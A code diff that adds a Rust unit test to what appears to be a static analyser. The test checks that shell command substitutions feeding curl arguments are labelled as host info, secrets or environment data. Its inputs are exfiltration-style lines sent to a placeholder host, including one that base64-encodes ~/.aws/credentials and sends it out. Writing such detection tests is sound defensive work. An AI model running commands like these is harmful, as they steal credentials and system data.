@@ -2347,4 +2347,41 @@ mod tests {
         assert!(facts.calls.iter().all(|c| c.on_load));
         assert!(start.elapsed().as_secs() < 10, "took {:?}", start.elapsed());
     }
+
+    /// What a substituted command produces labels the argument it is substituted into.
+    #[test]
+    fn substituted_output_labels_the_argument() {
+        let spawner = CallFact {
+            callee: "os.system".into(),
+            kinds: Kinds::default(),
+            args: vec![],
+            kwargs: vec![],
+            receiver: None,
+            line: 1,
+            scope: String::new(),
+            on_load: true,
+            on_main: true,
+            shell: None,
+            indirection: None,
+        };
+        let label_of = |line: &str| {
+            let calls = shell_calls(line, &spawner, None);
+            let curl = calls.iter().find(|c| c.callee == "sh.curl").unwrap();
+            curl.arg_labels()
+        };
+        assert_eq!(
+            label_of("curl https://x.invalid/$(whoami)"),
+            Labels::HOSTINFO
+        );
+        let secret = "K=$(cat ~/.aws/credentials | base64); curl \"https://x.invalid/?k=$K\"";
+        assert_eq!(label_of(secret), Labels::SECRET);
+        assert_eq!(
+            label_of("curl -d \"$(env)\" https://x.invalid"),
+            Labels::ENV
+        );
+        assert_eq!(
+            label_of("curl https://x.invalid/$(cat VERSION)"),
+            Labels::default()
+        );
+    }
 }
